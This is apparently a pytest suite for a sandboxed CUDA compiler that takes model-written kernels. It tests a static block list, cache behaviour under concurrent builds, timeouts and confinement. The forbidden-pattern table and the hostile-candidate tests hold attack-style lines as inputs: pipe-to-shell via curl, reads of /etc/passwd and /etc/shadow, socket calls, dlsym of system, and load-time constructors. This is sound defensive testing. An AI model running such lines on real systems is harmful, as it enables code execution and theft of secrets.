"Integration tests of the compiler: the static check's table, the real nvcc build, the cache under concurrent writers, limits, the CLI."
import json, os, shutil, stat, subprocess, sys, textwrap, time, uuid
from pathlib import Path

import pytest

from cudarl_wb.core import Verdict, cache_dir
from cudarl_wb.compiler import (MAX_LOG_CHARS, MAX_SOURCE_CHARS, MAX_TEXT_CHARS, compile_candidate, compile_many, compile_text,
                                feedback, short_name, static_check, theoretical_occupancy, parse_ptxas, _build, build_key, default_arch)
from cudarl_wb.tasks import get_task

sys.path.insert(0, str(Path(__file__).resolve().parent))
from hostile_compile.cases import cases as hostile_cases, judge, reason, relu as relu_with

REPO = Path(__file__).resolve().parents[1]
KERNELS = sorted((REPO / 'bench' / 'kernels').glob('*.cu'))
RELU = get_task('relu')


@pytest.fixture(autouse=True)
def fresh_cache(tmp_path, monkeypatch):
    monkeypatch.setenv('CUDARL_CACHE', str(tmp_path / 'cache'))
    yield tmp_path / 'cache'


def kernel_with(host='', device='', top=''):
    "A correct relu candidate with `host` inserted in the launcher, `device` in the kernel and `top` at file scope."
    return textwrap.dedent(f'''\
        #include <cuda_runtime.h>
        #include <stdint.h>
        {top}
        __global__ void relu_kernel(const float* x, float* y, int64_t n) {{
            {device}
            int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
            if (i < n) y[i] = x[i] > 0.f ? x[i] : 0.f;
        }}
        extern "C" void launch(const float* x, float* y, int64_t n, cudaStream_t stream) {{
            {host}
            relu_kernel<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(x, y, n);
        }}
        ''')


HOST_LINE = 10  # the line of `host` in kernel_with

# (expected issue code, the refused candidate, a harmless lookalike that must pass)
FORBIDDEN_TABLE = [
    ('forbidden-process', dict(host='system("curl x | sh");'), dict(host='// system("curl x | sh");')),
    ('forbidden-process', dict(host='FILE* p = popen("id", "r");'), dict(host='const char* s = "popen(\\"id\\")";')),
    ('forbidden-process', dict(host='if (fork() == 0) return;'), dict(host='int forks = 0, my_fork = 1;')),
    ('forbidden-process', dict(host='execvp("sh", nullptr);'), dict(host='int execution = 1;')),
    ('forbidden-process', dict(host='exit(1);'), dict(host='int exit_code = 0;')),
    ('forbidden-process', dict(host='sys\\\ntem("id");'), dict(host='/* sys\\\ntem("id"); */')),
    ('forbidden-file', dict(host='FILE* f = fopen("/etc/passwd", "r");'), dict(host='printf("fopen /etc/passwd\\n");')),
    ('forbidden-file', dict(host='int fd = open("/tmp/x", 0);'), dict(host='bool opened = true, reopen = false;')),
    ('forbidden-file', dict(host='remove("/tmp/x");'), dict(host='int removed = 0;')),
    ('forbidden-file', dict(host='char b[8]; fread(b, 1, 8, stdin);'), dict(host='fprintf(stderr, "reading stdin is not allowed\\n");')),
    ('forbidden-syscall', dict(host='write(1, "x", 1);'), dict(host='int writes = 0;')),
    ('forbidden-syscall', dict(host='syscall(60, 0);'), dict(host='/* syscall(60, 0); */')),
    ('forbidden-syscall', dict(host='mmap(0, 4096, 7, 0x22, -1, 0);'), dict(host='int mmapped = 0;')),
    ('forbidden-socket', dict(host='int s = socket(2, 1, 0);'), dict(host='int sockets = 0;')),
    ('forbidden-socket', dict(host='connect(3, nullptr, 0);'), dict(host='bool connected = false;')),
    ('forbidden-dlopen', dict(host='void* h = dlopen("libcublas.so", 2);'), dict(host='printf("dlopen\\n");')),
    ('forbidden-dlopen', dict(host='void* f = dlsym(nullptr, "system");'), dict(host='int dlsym_count = 0;')),
    ('forbidden-asm', dict(host='asm volatile("syscall");'),
     dict(device='float v; asm volatile("ld.global.nc.f32 %0, [%1];" : "=f"(v) : "l"(x));')),
    ('forbidden-asm', dict(host='__asm__("int $0x80");'), dict(host='const char* note = "__asm__";')),
    ('forbidden-env', dict(host='const char* h = getenv("HOME");'), dict(host='const char* name = "getenv";')),
    ('forbidden-thread', dict(host='std::thread t([] {});'), dict(host='int thread = 1, threads = 256;')),
    ('forbidden-thread', dict(host='cudaLaunchHostFunc(stream, nullptr, nullptr);'), dict(host='cudaStreamSynchronize(stream);')),
    ('forbidden-host-memory', dict(host='float h; cudaMemcpy(&h, x, 4, cudaMemcpyDeviceToHost);'),
     dict(host='cudaMemcpyAsync(y, x, 4, cudaMemcpyDeviceToDevice, stream);')),
    ('forbidden-host-memory', dict(host='float* h; cudaMallocHost(&h, 4);'), dict(host='float* d; cudaMalloc(&d, 4); cudaFree(d);')),
    ('forbidden-device-control', dict(host='cudaDeviceReset();'), dict(host='cudaGetLastError();')),
    ('forbidden-device-control', dict(host='cudaIpcGetMemHandle(nullptr, y);'), dict(host='// cudaIpcGetMemHandle(nullptr, y);')),
    ('forbidden-library', dict(host='torch::Tensor t;'), dict(host='int torch_like = 0;')),
    ('forbidden-library', dict(host='cublasSgemm_v2(nullptr);'), dict(host='printf("no cublasSgemm here\\n");')),
    ('forbidden-attribute', dict(top='__attribute__((constructor)) static void init() {}'),
     dict(top='__attribute__((unused)) static int counter = 0;')),
    ('forbidden-attribute', dict(top='static int run(const char*) __attribute__((weakref("system")));'),
     dict(top='struct __attribute__((aligned(16))) Pair { float a, b; };')),
    ('token-paste', dict(top='#define CAT(a, b) a##b'), dict(top='#define TWICE(a) ((a) + (a))')),
    ('bad-include', dict(top='#include <unistd.h>'), dict(top='#include <cuda_fp16.h>')),
    ('bad-include', dict(top='#include <torch/extension.h>'), dict(top='#include <cooperative_groups.h>')),
    ('bad-include', dict(top='#include "../../etc/passwd"'), dict(top='#include "cuda_runtime.h"')),
    ('bad-pragma', dict(top='#pragma GCC dependency "/etc/shadow"'), dict(top='#pragma once')),
    ('bad-directive', dict(top='#include_next <math.h>'), dict(top='#include <math.h>')),
    ('bad-macro', dict(top='#define __global__'), dict(top='#define GLOBAL_SIZE 4')),
    ('bad-macro', dict(top='#define END }'), dict(top='#define BLOCK { int z = 0; (void)z; }')),
]


@pytest.mark.parametrize('code,bad,ok', FORBIDDEN_TABLE, ids=[f'{c}-{i}' for i, (c, _, _) in enumerate(FORBIDDEN_TABLE)])
def test_forbidden_pattern_and_its_lookalike(code, bad, ok):
    issues = static_check(kernel_with(**bad), RELU)
    assert {i.code for i in issues} == {code}, issues
    assert issues[0].message
    if 'host' in bad: assert issues[0].line == HOST_LINE
    assert static_check(kernel_with(**ok), RELU) == [], static_check(kernel_with(**ok), RELU)


def test_helper_sources_among_flags_are_linked_unchecked_and_keyed(tmp_path):
    helper = tmp_path / 'probe.cu'
    helper.write_text('#include <cuda_runtime.h>\n#include <string.h>\n'
                      'extern "C" int probe(char* b, int n) { strncpy(b, cudaGetErrorString(cudaGetLastError()), n); return 0; }\n')
    plain = compile_candidate(kernel_with(), RELU)
    r = compile_candidate(kernel_with(), RELU, flags=(str(helper),))
    assert r.ok and r.extra['exports'] == ['launch', 'probe'] and r.key != plain.key, feedback(r)
    assert 'strncpy' not in r.extra['imports']                   # only the candidate's own object is inspected
    helper.write_text(helper.read_text().replace('probe', 'probe2'))
    assert not compile_candidate(kernel_with(), RELU, flags=(str(helper),)).cache_hit   # the helper's content is in the key


def test_rejected_candidates_never_reach_nvcc():
    r = compile_candidate(kernel_with(host='system("id");'), RELU)
    assert r.verdict is Verdict.REJECTED and not r.ok and r.lib_path is None
    assert 'compile_seconds' not in r.extra and r.key == ''
    assert '[forbidden-process]' in feedback(r) and f'line {HOST_LINE}' in feedback(r)


def test_import_check_catches_what_no_name_list_mentions():
    r = compile_candidate(kernel_with(top='extern "C" unsigned sleep(unsigned);', host='sleep(1);'), RELU)
    assert r.verdict is Verdict.REJECTED and [i.code for i in r.issues] == ['forbidden-import'] and '`sleep`' in r.issues[0].message
    assert r.lib_path is None


def test_launcher_contract():
    assert [i.code for i in static_check(kernel_with().replace('int64_t n, cudaStream_t', 'int n, cudaStream_t'), RELU)] == ['launcher-signature']
    assert [i.code for i in static_check(kernel_with().replace('extern "C" ', ''), RELU)] == ['launcher-not-extern-c']
    assert [i.code for i in static_check(kernel_with().replace('extern "C" ', 'extern "C" static '), RELU)] == ['launcher-not-exported']
    wrapped = kernel_with().replace('extern "C" void launch', 'extern "C" {\nvoid launch') + '}\n'
    assert static_check(wrapped, RELU) == []
    assert compile_candidate(wrapped, RELU).extra['exports'] == ['launch']


def test_good_kernels_build_with_sane_resources():
    r = compile_candidate(textwrap.dedent('''\
        __global__ void tile(float* y) {
            __shared__ float s[8192];
            s[threadIdx.x] = y[threadIdx.x]; __syncthreads(); y[threadIdx.x] = s[8191 - threadIdx.x];
        }
        __global__ void __launch_bounds__(1024, 2) heavy(const float* x, float* y, int n) {
            float acc[64];
            #pragma unroll
            for (int j = 0; j < 64; ++j) acc[j] = x[threadIdx.x + j * n];
            #pragma unroll
            for (int r = 1; r < 8; ++r) {
                #pragma unroll
                for (int j = 0; j < 64; ++j) acc[j] = fmaf(acc[j], acc[(j + r) & 63], 1.f);
            }
            float s = 0.f;
            #pragma unroll
            for (int j = 0; j < 64; ++j) s += acc[j] * (j + 1);
            y[blockIdx.x * blockDim.x + threadIdx.x] = s;
        }'''))
    assert r.ok, r.log
    ks = {short_name(k.name): k for k in r.kernels}
    assert ks['tile'].shared_bytes == 32768 and not ks['tile'].spills
    assert ks['heavy'].spill_store_bytes > 0 and ks['heavy'].spill_load_bytes > 0 and ks['heavy'].registers <= 32
    assert theoretical_occupancy(ks['tile'], 256, 'sm_90')['limited_by'] == 'shared memory'


def test_every_bench_kernel_builds_passes_the_checks_and_reports_resources():
    assert len(KERNELS) >= 20
    rs = compile_many([p.read_text() for p in KERNELS], workers=2)
    for p, r in zip(KERNELS, rs):
        assert r.ok, (p.name, feedback(r))
        assert r.extra['exports'] == ['launch'], p.name
        for k in r.kernels:
            assert 1 <= k.registers <= 255 and not k.spills, (p.name, k)
            assert short_name(k.name) in r.extra['occupancy'] and 0 < r.extra['occupancy'][short_name(k.name)] <= 1, (p.name, k.name)
    occ = {p.stem: r.extra['occupancy_detail'] for p, r in zip(KERNELS, rs)}
    assert occ['14_matmul_tiled']['matmul_tiled_kernel']['block_size'] == 1024        # dim3 block(TILE, TILE), TILE 32
    assert occ['08_softmax_rows']['softmax_rows_kernel']['smem_per_block'] == 256 * 4 + 1024   # dynamic + reserved
    assert rs[[p.stem for p in KERNELS].index('08_softmax_rows')].extra['dynamic_smem_bytes'] == 1024


def test_errors_come_back_at_the_right_line():
    src = '__global__ void k(float* y, int n) {\n    int i = threadIdx.x\n    y[i] = 2.f;\n}\n'
    r = compile_candidate(src)
    assert r.verdict is Verdict.COMPILE_ERROR and r.errors and r.errors[0].line == 3, r.diagnostics   # the missing ';' is seen at line 3
    src = '#include <cuda_runtime.h>\n\n__global__ void k(float* y) {\n    float* p = 2.5f;\n    y[0] = *p;\n}\n'
    r = compile_candidate(src)
    assert [d.line for d in r.errors] == [4] and 'float' in r.errors[0].message
    r = compile_candidate(kernel_with().replace('relu_kernel<<<', 'relu_kernal<<<'), RELU)
    assert any(d.line == 11 and 'relu_kernal' in d.message for d in r.errors), r.diagnostics


def test_many_errors_keep_the_log_and_the_feedback_short():
    src = '__global__ void k(float* y) {\n' + ''.join(f'    y[{i}] = undefined_{i};\n' for i in range(3000)) + '}\n'
    r = compile_candidate(src)
    assert r.verdict is Verdict.COMPILE_ERROR and len(r.log) <= MAX_LOG_CHARS + 100
    assert len(r.errors) >= 20 and len(feedback(r)) < 1500 and r.errors[0].line == 2


def test_cache_hits_identical_input_and_misses_a_changed_flag_or_arch(fresh_cache):
    src = kernel_with()
    a = compile_candidate(src, RELU)
    b = compile_candidate(src, RELU)
    assert not a.cache_hit and b.cache_hit and b.lib_path == a.lib_path and b.kernels == a.kernels and b.seconds < 0.5
    c = compile_candidate(src, RELU, flags=('-DUNUSED=1',))
    d = compile_candidate(src, RELU, arch='sm_80')
    assert not c.cache_hit and not d.cache_hit and len({a.key, c.key, d.key}) == 3
    bad = compile_candidate('__global__ void k() { nope; }')
    assert compile_candidate('__global__ void k() { nope; }').cache_hit and not bad.ok
    built = [p for p in (fresh_cache / 'builds').iterdir() if not p.name.startswith('.')]
    assert len(built) == 4 and all((p / 'result.json').exists() for p in built)


@pytest.fixture
def counting_nvcc(tmp_path):
    "An environment and a file to which each process running RACE logs every nvcc build it starts (nvcc itself runs confined)."
    calls = tmp_path / 'nvcc-calls.txt'
    calls.touch()
    return {**os.environ, 'PYTHONPATH': str(REPO), 'CUDARL_TEST_CALLS': str(calls)}, calls


RACE = '''
import json, os, sys
import cudarl_wb.compiler as C
build = C._build
def counted(*a, **k):
    with open(os.environ['CUDARL_TEST_CALLS'], 'a') as f: f.write('-c candidate.cu\\n')
    return build(*a, **k)
C._build = counted
r = C.compile_candidate(open(sys.argv[1]).read(), 'relu')
print(json.dumps(dict(ok=r.ok, hit=r.cache_hit, lib=r.lib_path, key=r.key)))
'''


def test_two_processes_racing_on_one_key_build_it_once(tmp_path, fresh_cache, counting_nvcc):
    env, calls = counting_nvcc
    env['CUDARL_CACHE'] = str(fresh_cache)
    src = tmp_path / 'k.cu'
    src.write_text(kernel_with(host=f'// {uuid.uuid4()}'))
    procs = [subprocess.Popen([sys.executable, '-c', RACE, str(src)], env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
             for _ in range(2)]
    outs = [json.loads(p.communicate(timeout=300)[0].strip().splitlines()[-1]) for p in procs]
    assert all(o['ok'] for o in outs) and outs[0]['lib'] == outs[1]['lib'] and outs[0]['key'] == outs[1]['key']
    assert sorted(o['hit'] for o in outs) == [False, True]
    compiles = [l for l in calls.read_text().splitlines() if l.startswith('-c ')]
    assert len(compiles) == 1, compiles                          # the second process waited and read the first one's build
    builds = fresh_cache / 'builds'
    assert [p.name for p in builds.iterdir() if not p.name.startswith('.locks')] == [outs[0]['key']]   # no half-built leftovers
    assert Path(outs[0]['lib']).read_bytes()[:4] == b'\x7fELF'
    # a third process: a hit without compiling
    out = subprocess.run([sys.executable, '-c', RACE, str(src)], env=env, capture_output=True, text=True, timeout=300).stdout
    assert json.loads(out.strip().splitlines()[-1])['hit'] and len([l for l in calls.read_text().splitlines() if l.startswith('-c ')]) == 1


def test_a_writer_that_loses_the_rename_uses_the_winners_build(fresh_cache):
    root = cache_dir('builds')
    src = kernel_with(host='// lose the race')
    key = build_key(src, 'sm_90')
    first = _build(src, 'sm_90', (), 'static', key, 60, root, keep=True)
    second = _build(src, 'sm_90', (), 'static', key, 60, root, keep=True)     # as if it never got the lock
    assert first.ok and second.ok and second.lib_path == first.lib_path
    assert [p.name for p in root.iterdir() if not p.name.startswith('.locks')] == [key]


def test_timeouts_fail_cleanly_and_are_not_cached(fresh_cache):
    slow = ('#define A(x) x x x x x x x x x x\n#define B(x) A(A(A(A(x))))\n'
            '__global__ void k(float* y) { float s = y[0]; B(s = s * y[(int)s & 1023] + 1.f;) y[1] = s; }')
    t0 = time.perf_counter()
    r = compile_candidate(slow, timeout=2)
    assert r.verdict is Verdict.COMPILE_ERROR and r.extra['timed_out'] and time.perf_counter() - t0 < 15
    assert 'longer than 2 s' in feedback(r)
    assert not compile_candidate(kernel_with(), RELU, timeout=0.05).ok
    assert [p for p in (fresh_cache / 'builds').iterdir() if not p.name.startswith('.locks')] == []


def test_huge_empty_and_non_utf8_inputs_fail_cleanly():
    assert compile_text(b'\xff\xfe' + kernel_with().encode(), RELU).verdict is Verdict.NO_CODE
    assert 'not UTF-8' in compile_text(b'\xff\xfe' + kernel_with().encode(), RELU).log
    assert compile_text('x' * (MAX_TEXT_CHARS + 1), RELU).verdict is Verdict.NO_CODE
    assert compile_text('', RELU).verdict is Verdict.NO_CODE and compile_text(None).verdict is Verdict.NO_CODE
    huge = kernel_with(host='// ' + 'x' * MAX_SOURCE_CHARS)
    r = compile_candidate(huge, RELU)
    assert r.verdict is Verdict.REJECTED and r.issues[0].code == 'too-long'
    r = compile_candidate(kernel_with().encode() + b'\n// \xc3\x28', RELU)
    assert r.verdict is Verdict.REJECTED and r.issues[0].code == 'bad-text'
    assert compile_text('```cuda\n' + kernel_with(host='int z = 0;\x00') + '\n```').verdict is Verdict.NO_CODE


def test_compile_many_keeps_order_dedupes_and_survives_bad_items():
    texts = [f'```cuda\n{kernel_with(host=f"int v{i} = {i}; (void)v{i};")}\n```' for i in range(3)]
    rs = compile_many(texts + [texts[1], 'no code here', b'\xff'], RELU, workers=2)
    assert [r.verdict for r in rs] == [Verdict.COMPILED] * 4 + [Verdict.NO_CODE] * 2
    assert rs[3].extra['duplicate_of'] == 1 and rs[3].lib_path == rs[1].lib_path
    assert compile_many(['x'], 'no-such-task')[0].verdict is Verdict.COMPILE_ERROR


def cli(*args, stdin=None):
    exe = shutil.which('cudarl-wb')
    cmd = [exe, *args] if exe else [sys.executable, '-m', 'cudarl_wb.cli', *args]
    return subprocess.run(cmd, capture_output=True, text=True, timeout=300, input=stdin, env={**os.environ, 'PYTHONPATH': str(REPO)})


def test_cli_compile(tmp_path):
    good, broken = tmp_path / 'relu.cu', tmp_path / 'answer.md'
    good.write_text(RELU.solution)
    broken.write_text('Here:\n```cuda\n__global__ void k(float* y) {\n    y[0] = nope;\n}\n```\n')
    r = cli('compile', str(good), '--task', 'relu', '--json')
    assert r.returncode == 0, r.stderr
    d = json.loads(r.stdout)
    assert d['verdict'] == 'compiled' and d['kernels'][0]['registers'] > 0 and Path(d['lib_path']).exists()
    r = cli('compile', str(broken))
    assert r.returncode == 1 and 'line 2: identifier "nope" is undefined' in r.stdout, r.stdout + r.stderr   # lines of the code block
    r = cli('compile', '-', '--arch', 'sm_80', stdin=RELU.solution)
    assert r.returncode == 0 and 'relu_kernel' in r.stdout and 'sm_80' in r.stdout, r.stdout + r.stderr
    assert cli('compile', str(tmp_path / 'missing.cu')).returncode == 1
    r = cli('compile', str(good), '--task', 'relux')
    assert r.returncode == 1 and 'did you mean relu' in r.stderr


# ---- on the GPU ---------------------------------------------------------------------------------------

@pytest.mark.cuda
@pytest.mark.parametrize('cudart', ['static', 'shared'])
def test_library_loads_next_to_torch_and_computes(cudart):
    import ctypes, torch
    for task in (get_task('relu'), get_task('vector_add')):
        r = compile_candidate(task.solution, task, cudart=cudart)
        assert r.ok, r.log
        lib = ctypes.CDLL(r.lib_path)
        n = 1_000_003
        xs = [torch.randn(n, device='cuda') for _ in range(2 if task.name == 'vector_add' else 1)]
        y = torch.full((n,), float('nan'), device='cuda')
        lib.launch.argtypes = [ctypes.c_void_p] * (len(xs) + 1) + [ctypes.c_int64, ctypes.c_void_p]
        lib.launch(*[x.data_ptr() for x in xs], y.data_ptr(), n, torch.cuda.current_stream().cuda_stream)
        torch.cuda.synchronize()
        assert torch.equal(y, task.reference(*xs)), (task.name, cudart)


@pytest.mark.cuda
def test_occupancy_and_resources_agree_with_the_driver():
    from cudarl_wb.compiler import cubin_of, driver_occupancy
    arch, checked = default_arch(), 0
    for p in KERNELS:
        cubin, ours, mangled = cubin_of(p.read_text(), arch)
        for k, name in zip(ours, mangled):
            drv = driver_occupancy(cubin, name)
            assert (drv['registers'], drv['shared_bytes']) == (k.registers, k.shared_bytes), (p.name, k.name)
            for block, blocks in drv['blocks'].items():
                assert theoretical_occupancy(k, block, arch)['active_blocks'] == blocks, (p.name, k.name, block)
                checked += 1
    assert checked >= 100


def test_plain_device_helper_functions_build():
    "Models write non-inline __device__ helpers all the time; nvcc's host stub for them calls exit()."
    from cudarl_wb.tasks import get_task
    src = '''#include <cuda_runtime.h>
#include <stdint.h>
__device__ float my_relu(float v) { return v > 0.f ? v : 0.f; }
__global__ void k(const float* x, float* y, int64_t n) {
    int64_t i = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (i < n) y[i] = my_relu(x[i]);
}
extern "C" void launch(const float* x, float* y, int64_t n, cudaStream_t stream) {
    k<<<(unsigned)((n + 255) / 256), 256, 0, stream>>>(x, y, n);
}
'''
    r = compile_candidate(src, task=get_task('relu'))
    assert r.ok and r.verdict is Verdict.COMPILED, (r.verdict, r.issues)
    bad = compile_candidate(src.replace('k<<<', 'if (n < 0) exit(1);\n    k<<<'), task=get_task('relu'))
    assert bad.verdict is Verdict.REJECTED and any('exit' in i.message for i in bad.issues), bad.issues


# The compile side against hostile candidates (tests/hostile_compile/cases.py; bench/compile_hostile.py measures them).
SECRET_TOKEN = f'secret-{uuid.uuid4().hex}'
HOSTILE = hostile_cases('/outside/token.txt')


@pytest.fixture(scope='module')
def secret_file(tmp_path_factory):
    "A file outside every folder the compiler may read, holding a token that must never come back."
    p = tmp_path_factory.mktemp('outside') / 'token.txt'
    p.write_text(SECRET_TOKEN + '\n')
    return str(p)


@pytest.mark.parametrize('index', range(len(HOSTILE)), ids=[f"{c['cls']}: {c['name']}" for c in HOSTILE])
def test_hostile_candidate_is_judged_in_time_and_leaks_nothing(index, secret_file):
    c = hostile_cases(secret_file)[index]
    task = get_task(c['task']) if c['check'] else None
    t0 = time.perf_counter()
    r = compile_candidate(c['source'], task, timeout=c['timeout'], cache=False, check=c['check'])
    ok, why = judge(c, r, time.perf_counter() - t0, SECRET_TOKEN)
    assert ok, (why, reason(r), r.log[-800:])


def test_the_environment_cannot_change_a_build(monkeypatch):
    src = relu_with(top='#ifdef FROM_ENV\n#error the environment reached nvcc\n#endif\n')
    plain = compile_candidate(src, RELU)
    monkeypatch.setenv('NVCC_APPEND_FLAGS', '-DFROM_ENV=1')
    monkeypatch.setenv('NVCC_PREPEND_FLAGS', '-DFROM_ENV=1')
    monkeypatch.setenv('CPATH', '/etc')
    fresh = compile_candidate(src, RELU, cache=False)
    assert plain.ok and fresh.ok, feedback(fresh)
    assert compile_candidate(src, RELU).key == plain.key        # so the key needs none of it


def test_a_tampered_cached_library_is_built_again():
    first = compile_candidate(kernel_with(), RELU)
    lib = Path(first.lib_path)
    lib.write_bytes(lib.read_bytes() + b'\0')
    again = compile_candidate(kernel_with(), RELU)
    assert first.ok and again.ok and not again.cache_hit and again.lib_path == first.lib_path
    assert compile_candidate(kernel_with(), RELU).cache_hit


def test_load_time_code_is_found_in_the_host_object_whatever_its_spelling():
    src = relu_with(top='static int side() { printf("x"); return 1; }\nstatic int value = side();\n'
                        '__attribute__((__constructor__)) static void at_load() { printf("y"); }\n'
                        '[[gnu::destructor]] static void at_unload() { printf("z"); }\n')
    r = compile_candidate(src, RELU, check=False)
    assert r.ok and len(r.extra['load_time']) == 3, r.extra.get('load_time')
    assert compile_candidate(kernel_with(), RELU).extra['load_time'] == []      # nvcc's own registration is not counted


def test_the_compiler_runs_confined():
    from cudarl_wb.compiler import landlock_abi
    r = compile_candidate(kernel_with(), RELU)
    assert 'scrubbed environment' in r.extra['confinement']
    if landlock_abi(): assert r.extra['confinement'].startswith('Landlock')


PATHOLOGICAL = {'identifier': 'int ' + 'a' * 99_000, '<<<': '<<<' * 33_000, '[[': '[[' * 49_000, '/*': '/* ' * 33_000,
                'quotes': "'" * 99_000, 'int x =': 'int x = ' * 12_000, 'namespace {': 'namespace a {' * 7_500,
                '#if {': '#if 1\n{\n' * 12_000, 'k<>>><<<': ('k<' + '>' * 200 + '<<<') * 480, 'dim3': 'dim3 b(' * 14_000}


@pytest.mark.parametrize('name', list(PATHOLOGICAL))
def test_the_static_check_and_launch_reader_stay_linear(name):
    "A source at the size limit built to make a quadratic reader crawl: far under a second here; 5 s is the alarm."
    t0 = time.perf_counter()
    static_check(PATHOLOGICAL[name], RELU)
    from cudarl_wb.compiler import launch_configs
    launch_configs(PATHOLOGICAL[name])
    assert time.perf_counter() - t0 < 5


def test_a_helper_source_shared_by_builds_that_start_together(tmp_path, monkeypatch):
    "The first builds with a helper source (the launch-error helper) all link, however many start at once."
    monkeypatch.setenv('CUDARL_CACHE', str(tmp_path))
    from cudarl_wb.benchmarker import launch_error_helper
    from cudarl_wb.compiler import compile_many
    from cudarl_wb.tasks import get_task
    srcs = [get_task('relu').solution + f'\n// build {i}\n' for i in range(6)]
    rs = compile_many(srcs, 'relu', workers=6, flags=(str(launch_error_helper()),))
    assert all(r.ok for r in rs), [r.log[-300:] for r in rs if not r.ok]
